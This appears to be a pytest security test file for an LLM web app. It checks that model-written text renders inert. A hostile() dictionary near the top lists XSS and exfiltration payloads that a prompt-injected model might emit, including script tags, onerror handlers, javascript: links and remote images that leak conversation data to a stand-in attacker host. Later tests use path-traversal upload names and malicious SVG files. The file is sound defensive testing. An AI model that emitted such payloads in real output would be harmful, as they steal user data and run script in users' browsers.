"""Model output is inert text (issue 13): what an LLM or a model wrote reaches the page as text, never
as markup; an answer keeps its Markdown but loads nothing from elsewhere. The Markdown we produce is
rendered here by a real CommonMark parser with raw HTML on (markdown-it-py, which Gradio ships), and
the HTML it makes is audited: only text-formatting tags, no attribute that loads or runs anything,
every link an http(s) address that shows its own host. The browser test
(test_ui_hostile_browser.py) checks the same inputs in Chromium through Gradio's own renderer.

Also here: hostile upload names and SVG/HTML uploads, and the HTTP API's rendered content."""
from __future__ import annotations

import json
import random
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import openai
import pytest
from markdown_it import MarkdownIt

from jarvis.errors import ResourceError
from jarvis.events import AnswerDelta, ModelChosen, PlanReady, TaskFailed, TaskFinished, TaskSkipped
from jarvis.files.store import ResourceStore
from jarvis.frontends.safe_text import AnswerFilter, answer_markdown, code_block, code_span, escape_text, model_text
from jarvis.frontends.web.render import TurnRenderer, user_messages
from jarvis.pipeline.plan import Task
from jarvis.pipeline.records import TaskRecord

CORPUS = Path(__file__).resolve().parent / "corpus" / "handpicked.jsonl"
EVIL = "http://127.0.0.1:9"     # stands for an attacker's server (the browser test serves one)


def hostile(evil: str = EVIL) -> dict[str, str]:
    """What a prompt-injected model might write, by name. Every one must render inert."""
    return {
        "script": "<script>window.__pwned = 1</script>",
        "img onerror": f'<img src="{evil}/onerror.png" onerror="window.__pwned = 1">',
        "iframe": f'<iframe src="{evil}/frame" name="evil"></iframe>',
        "svg": '<svg id="evil-svg" width="300" height="300" onload="window.__pwned = 1"><rect width="300" height="300"/></svg>',
        "style": "<style>body { display: none }</style>",
        "meta refresh": f'<meta http-equiv="refresh" content="0; url={evil}/refresh">',
        "link stylesheet": f'<link rel="stylesheet" href="{evil}/style.css">',
        "object": f'<object data="{evil}/object"></object><embed src="{evil}/embed">',
        "video poster": f'<video poster="{evil}/poster.png" src="{evil}/video.mp4"></video>',
        "form": f'<form action="{evil}/form"><input type="submit" value="Continue"></form>',
        "details ontoggle": '<details open ontoggle="window.__pwned = 1"><summary>x</summary></details>',
        "html comment": f"<!-- hidden --><img src={evil}/after-comment.png>",
        "javascript link": "[click me](javascript:window.__pwned=1)",
        "javascript html link": '<a href="javascript:window.__pwned=1">click me</a>',
        "data link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "remote image": f"![chart]({evil}/leak.png?conversation=secret%20words)",
        "remote image with title": f'![a]({evil}/titled.png "title")',
        "angle image": f"![a](<{evil}/angle image.png>)",
        "reference image": f"![diagram][d]\n\n[d]: {evil}/reference.png",
        "reference in quote": f"> ![q][r]\n>\n> [r]: {evil}/quoted.png",
        "image in link": f"[![badge]({evil}/badge.png)]({evil}/badge-link)",
        "hidden address link": f"[the documentation]({evil}/collect?data=secret)",
        "autolink": f"<{evil}/autolink.png>",
        "bare address": f"see {evil}/bare.png?x=1.",
        "www address": "www.evil.example/path",
        "address then code": f"{evil}/x`<img src={evil}/after-url.png>`",
        "escaped tag": f"\\<img src={evil}/escaped.png>",
        "escaped backslash": f"\\\\<img src={evil}/double-backslash.png>",
        "entity tag": "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;",
        "unclosed fence": f"```\n<img src={evil}/unclosed-fence.png>",
        "marked closer": f"```\n```~\n<img src={evil}/marked-closer.png>",
        "tab closer": f"```\n```\t\n<img src={evil}/tab-closer.png>",
        "carriage return fence": f"```\r<img src={evil}/cr-fence.png>\r```\r<img src={evil}/after-cr.png>",
        "tilde fence": f"~~~\n<img src={evil}/tilde.png>\n~~~\n<img src={evil}/after-tilde.png>",
        "fence in quote": f"> ```\n> <img src={evil}/quote-fence.png>\n> ```",
        "mermaid": f'```mermaid\ngraph TD; A["<img src={evil}/mermaid.png>"] --> B\n```',
        "mermaid in quote": f'> ```mermaid\n> graph TD; A["<img src={evil}/mermaid-quote.png>"]\n> ```',
        "latex straddle": f"$$\n```\n$$\n<img src={evil}/latex.png>\n```",
        "code span across lines": f"`a\n<img src={evil}/span-lines.png>`",
        "backtick run": f"text ``` <img src={evil}/backticks.png> `` and ` alone",
        "table cell": f"| a | b |\n|---|---|\n| <img src={evil}/cell.png> | ok |",
        "bidi": "file\u202egnp.exe and \u200fcontrol\x07 chars",
    }


# -- the audit ---------------------------------------------------------------------------------------
_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
SAFE_TAGS = {"p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br", "table",
             "thead", "tbody", "tr", "th", "td", "s", "del", "h1", "h2", "h3", "h4", "h5", "h6"}


class _Audit(HTMLParser):
    def __init__(self, own_prefix: str | None):
        super().__init__(convert_charrefs=True)
        self.own_prefix = own_prefix
        self.problems: list[str] = []
        self.links: list[tuple[str, str]] = []
        self.text: list[str] = []
        self._anchor: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "img" and self.own_prefix and dict(attrs).get("src", "").startswith(self.own_prefix):
            return
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            ok = ((tag == "a" and name == "href") or (tag == "ol" and name == "start")
                  or (tag == "code" and name == "class" and value.startswith("language-"))
                  or (tag in ("td", "th") and name == "style" and value.startswith("text-align")))
            if not ok:
                self.problems.append(f"<{tag} {name}>")
        if tag == "a":
            self._anchor = [dict(attrs).get("href") or "", ""]

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._anchor is not None:
            self.links.append((self._anchor[0], self._anchor[1]))
            self._anchor = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._anchor is not None:
            self._anchor[1] += data


def audit(markdown: str, own_prefix: str | None = None) -> list[str]:
    """What in the rendered Markdown is not inert text (empty: all inert)."""
    a = _Audit(own_prefix)
    a.feed(_MD.render(markdown))
    problems = list(a.problems)
    for href, text in a.links:
        target, shown = urlsplit(href), urlsplit(text.strip())
        if target.scheme not in ("http", "https") or (target.scheme, target.netloc) != (shown.scheme, shown.netloc):
            problems.append(f"link {href!r} shown as {text!r}")
    for token in _MD.parse(markdown):
        if token.type == "fence" and token.info.strip().lower().startswith("mermaid"):
            problems.append("mermaid diagram")
    return problems


def visible(markdown: str) -> str:
    a = _Audit(None)
    a.feed(_MD.render(markdown))
    return " ".join("".join(a.text).split())


# -- the answer filter ---------------------------------------------------------------------------------
@pytest.mark.parametrize("name", list(hostile()))
def test_each_hostile_answer_renders_inert(name):
    assert audit(answer_markdown(hostile()[name])) == []


def test_the_audit_catches_what_the_raw_answers_carry():
    """The same inputs, unfiltered, do render markup: the audit above can fail."""
    caught = [name for name, text in hostile().items() if audit(text)]
    assert len(caught) >= 25, caught
    assert {"script", "img onerror", "iframe", "svg", "javascript html link", "remote image", "reference image",
            "mermaid", "hidden address link"} <= set(caught)


def test_hand_picked_corpus_texts_render_inert():
    texts = [json.loads(line)["text"] for line in CORPUS.read_text().splitlines() if line.startswith("{")]
    assert texts
    assert all(audit(answer_markdown(t)) == [] for t in texts)
    assert all(audit(escape_text(t)) == [] and audit(model_text(t)) == [] for t in texts)


def test_every_hostile_input_together_and_in_random_chunks_is_the_same():
    """A streamed answer (the API's) comes out exactly as the whole answer (the web app's)."""
    text = "\n\n".join(hostile().values()) + "\nThe end, with a [last](https://example.org/p) link"
    whole = answer_markdown(text)
    assert audit(whole) == []
    rng = random.Random(13)
    for _ in range(50):
        f, out, i = AnswerFilter(), [], 0
        while i < len(text):
            step = rng.randint(1, 9)
            out.append(f.feed(text[i:i + step]))
            i += step
        assert "".join(out) + f.close() == whole


def test_an_answers_markdown_survives():
    answer = ("# Result\n\n**Bold**, *italic* and `<b>code</b>`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
              "```html\n<div class=\"x\">kept</div>\n```\n\nMore at [the docs](https://example.org/docs).")
    html = _MD.render(answer_markdown(answer))
    assert "<h1>Result</h1>" in html and "<strong>Bold</strong>" in html and "<em>italic</em>" in html
    assert "<code>&lt;b&gt;code&lt;/b&gt;</code>" in html and "<li>one</li>" in html and "<td>2</td>" in html
    assert '<code class="language-html">&lt;div class=&quot;x&quot;&gt;kept&lt;/div&gt;' in html
    assert '<a href="https://example.org/docs"><code>https://example.org/docs</code></a>' in html


def test_a_remote_image_is_a_link_showing_its_whole_address():
    address = "https://evil.example/leak.png?q=the%20secret"
    html = _MD.render(answer_markdown(f"Look: ![chart]({address})"))
    assert "<img" not in html
    assert f'<a href="{address}"><code>{address}</code></a>' in html and "chart" in html


def test_only_the_sessions_own_files_show_as_images(tmp_path):
    store = ResourceStore(tmp_path / "s")
    photo = tmp_path / "photo.png"
    photo.write_bytes(b"\x89PNG\r\n\x1a\nrest")
    store.add_upload(photo)
    turn = TurnRenderer(store.find)
    turn.update(AnswerDelta("Here: ![your photo](photo.png) and ![other](https://evil.example/x.png) "
                            "and ![gone](missing.png) and ![abs](/etc/passwd) and ![again](photo.png)"))
    media = [m["content"]["path"] for m in turn.messages if isinstance(m["content"], dict)]
    assert media == [str(store.root / "photo.png")]
    answer = next(m["content"] for m in turn.messages if isinstance(m["content"], str) and "Here" in m["content"])
    assert audit(answer) == [] and "evil.example/x.png" in visible(answer) and "missing.png" in visible(answer)


# -- short texts and code ------------------------------------------------------------------------------
@pytest.mark.parametrize("name", list(hostile()))
def test_short_model_text_shows_exactly_as_written(name):
    text = hostile()[name]
    controls = r"[\x00-\x08\x0b-\x1f\u200e\u200f\u202a-\u202e]"     # shown as U+FFFD
    expected = " ".join(re.sub(controls, "\ufffd", text.replace("\r", "\n")).split())
    for rendered in (escape_text(text), "**Result:** " + escape_text(text), code_span(text)):
        assert audit(rendered) == []
        assert visible(rendered).removeprefix("Result: ") == expected
    block = code_block(text)
    assert audit(block) == [] and "<pre><code>" in _MD.render(block)


def test_long_or_multiline_results_go_into_a_code_block():
    assert model_text("a short caption") == "a short caption"
    block = model_text("line one <b>\n```\nline three")
    assert audit(block) == [] and _MD.render(block).count("<pre>") == 1 and "```" in visible(block)
    assert model_text("x" * 5000, limit=100).count("x") == 99


# -- the web app's steps -------------------------------------------------------------------------------
def test_every_step_a_model_wrote_renders_inert():
    bad = hostile()
    plan = [Task(0, "text-generation", [-1], {"text": [bad["img onerror"]]}),
            Task(1, bad["svg"], [-1], {"text": [bad["iframe"]]}, error=f"unknown task type {bad['svg']!r}")]
    turn = TurnRenderer()
    for event in (PlanReady(plan, [bad["script"]], 0.1),
                  ModelChosen(0, "text-generation", bad["javascript html link"], bad["remote image"],
                              [bad["javascript html link"], bad["style"]]),
                  TaskFinished(TaskRecord(0, "text-generation", [-1], {}, status="done", outputs={"text": bad["iframe"]},
                                          started=0.1, finished=0.6)),
                  TaskFailed(TaskRecord(1, bad["svg"], [-1], {}, status="failed", error=bad["svg"])),
                  TaskSkipped(TaskRecord(2, bad["form"], [-1], {}, status="skipped", error=bad["details ontoggle"])),
                  AnswerDelta("\n\n".join(bad.values()))):
        turn.update(event)
    turn.fail(bad["meta refresh"])
    shown = [m for m in turn.messages + user_messages(bad["remote image"], []) if isinstance(m["content"], str)]
    assert len(shown) >= 6
    for m in shown:
        assert audit(m["content"]) == [], m
        assert audit(m.get("metadata", {}).get("title", "")) == [], m
    text = " ".join(visible(m["content"]) + visible(m.get("metadata", {}).get("title", "")) for m in shown)
    assert bad["iframe"] in text and bad["script"] in text and "<svg id=" in text


# -- uploads -------------------------------------------------------------------------------------------
def test_hostile_upload_names_are_stored_under_safe_names(tmp_path):
    store = ResourceStore(tmp_path / "s")
    src = tmp_path / "src.png"
    src.write_bytes(b"\x89PNG\r\n\x1a\nrest")
    names = ["../../../etc/passwd.png", "..\\..\\boot.ini.png", "/abs/path/photo.png", "a" * 5000 + ".png",
             "фото.png", "café.png", "猫の写真.png", "x\x00y.png", "line\nbreak.png", ".hidden.png", "photo.png",
             "photo.png", "PHOTO.PNG", "con.png", "?*<>|\".png", "spaces  and\ttabs.png"]
    stored = [store.add_upload(src, name=n) for n in names]
    for res in stored:
        assert re.fullmatch(r"[A-Za-z0-9._-]{1,100}", res.name) and not res.name.startswith(".")
        assert res.path.parent == store.root and res.path.is_file() and res.type == "image"
    assert len({r.name for r in stored}) == len(names)                      # duplicates get new names
    assert [r.name for r in stored][:7] == ["passwd.png", "boot.ini.png", "photo.png", "a" * 96 + ".png",
                                            "file.png", "cafe.png", "file-1.png"]


@pytest.mark.parametrize("name,content", [
    ("evil.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("page.html", b"<html><body>hi</body></html>"),
    ("page.HTM", b"hi"),
    ("script.js", b"alert(1)"),
    ("photo.png", b'\xef\xbb\xbf  <svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("photo.jpg", b"<!DOCTYPE html><script>alert(1)</script>"),
    ("data.xml", b"<?xml version='1.0'?><x/>"),
])
def test_svg_html_and_script_uploads_are_refused(tmp_path, name, content):
    src = tmp_path / "in"
    src.write_bytes(content)
    store = ResourceStore(tmp_path / "s")
    with pytest.raises(ResourceError, match=rf"cannot attach {re.escape(name)}: SVG, HTML and other markup"):
        store.add_upload(src, name=name)
    assert not any(store.root.iterdir())


# -- the HTTP API's rendered content ---------------------------------------------------------------------
def _remote_setup(tmp_path):
    from tests.fakes.inference_server import InferenceServer
    catalog = tmp_path / "catalog.jsonl"
    catalog.write_text("\n".join(json.dumps(r) for r in [
        {"id": "openai-community/gpt2", "task": "text-generation", "downloads": 100},
        {"id": "distilbert/distilgpt2", "task": "text-generation", "downloads": 50}]))
    service = InferenceServer(token="hf_inert", models={"openai-community/gpt2": "text-generation",
                                                        "distilbert/distilgpt2": "text-generation"})
    return catalog, service


def test_the_apis_content_is_inert_streamed_or_not(tmp_path):
    """Task outputs (the remote model echoes its hostile input), the LLM's reason and a hostile answer,
    through the openai SDK: the content renders inert; an image of the run's own upload links here."""
    from jarvis.frontends.http.app import create_app
    from tests.fakes.llm_server import ScriptedLLM
    from tests.helpers import config_for, plan_json
    from tests.test_hardening_server import Served
    from tests.test_server import png_data_url

    bad = hostile()
    plan = plan_json(("text-generation", {"text": bad["img onerror"]}), (bad["svg"], {"text": "x"}))
    reason = json.dumps({"0": {"id": "openai-community/gpt2", "reason": bad["iframe"]}})
    answer = "Your photo: ![it](image-1.png)\n\n" + "\n\n".join(bad.values())
    catalog, service = _remote_setup(tmp_path)
    with service, ScriptedLLM(plan=plan, select=reason, answer=answer) as llm:
        cfg = config_for(llm.url, inference={"mode": "remote"}, catalog={"path": str(catalog)},
                         remote={"base_url": service.url, "timeout": 10, "max_retries": 1},
                         credentials={"hf_token": "hf_inert"}, server={"access_token": ""})
        with Served(create_app(cfg), cfg) as live:
            sdk = openai.OpenAI(base_url=f"{live.url}/v1", api_key="none", max_retries=0, timeout=60)
            messages = [{"role": "user", "content": [{"type": "text", "text": "go"},
                                                      {"type": "image_url", "image_url": {"url": png_data_url()}}]}]
            streamed = "".join(c.choices[0].delta.content or "" for c in sdk.chat.completions.create(
                model="jarvis", messages=messages, stream=True) if c.choices)
            whole = sdk.chat.completions.create(model="jarvis", messages=messages).choices[0].message.content
            headers = httpx.get(f"{live.url}/v1/models").headers
    steps, _, streamed_answer = streamed.partition("</think>")
    assert steps.startswith("<think>\n") and "text-generation" in steps
    own = f"{live.url}/files/"
    steps = steps.removeprefix("<think>\n")     # ours: reasoning clients fold it away
    assert audit(steps, own) == [] and bad["iframe"] in visible(steps)
    for content in (streamed_answer, whole):
        assert audit(content, own) == []
        assert "image-1.png" in _MD.render(content) and f'<img src="{own}' in _MD.render(content)
        assert bad["script"] in visible(content) and "127.0.0.1:9/leak.png" in visible(content)
    assert headers["x-content-type-options"] == "nosniff"


# -- files the web app serves --------------------------------------------------------------------------
def test_web_uploads_an_svg_is_refused_and_no_session_file_is_served_by_its_path(tmp_path):
    """Through gradio_client against the app as app.py serves it: an SVG upload gets a message and
    Gradio's copy of it is an octet-stream download marked nosniff; a session's own directory is not
    reachable by a file link, directly or through '..' from Gradio's cache."""
    from urllib.parse import quote

    from tests.fakes.llm_server import ScriptedLLM
    from tests.helpers import config_for
    from tests.test_hardening_web import STREET, file_urls, submit, texts, web

    svg = tmp_path / "evil.svg"
    svg.write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    with ScriptedLLM(plan="[]", chat="Fine.") as llm, web(config_for(llm.url, server={"access_token": ""})) as site:
        alice, bob = site.client(), site.client()
        chat = submit(alice, "look at this", [svg]).result(timeout=60)[0]
        assert any("Cannot attach evil.svg: SVG, HTML and other markup" in t for t in texts(chat)), texts(chat)
        (copy,) = [u for u in file_urls(chat) if u.endswith(".svg")]
        served = httpx.get(copy)
        assert served.status_code == 200 and served.headers["content-type"] == "application/octet-stream"
        assert served.headers["content-disposition"].startswith("attachment")
        assert served.headers["x-content-type-options"] == "nosniff"
        submit(bob, "keep this", [STREET]).result(timeout=60)
        registry = site.sessions.registry       # the web app's live conversations
        live = registry.keys()
        (own,) = [p for p in (registry.peek(k).session.store.root / "street.png" for k in live) if p.is_file()]
        assert own.is_file()
        cache_dir = copy.split("/file=", 1)[1].rsplit("/", 2)[0]
        for path in (str(own), f"{cache_dir}/../{own.parent.name}/street.png", f"{cache_dir}/{'../' * 8}{own}"):
            assert httpx.get(f"{site.url}/gradio_api/file={quote(path)}").status_code in (403, 404), path
        assert httpx.get(site.url).headers["x-content-type-options"] == "nosniff"
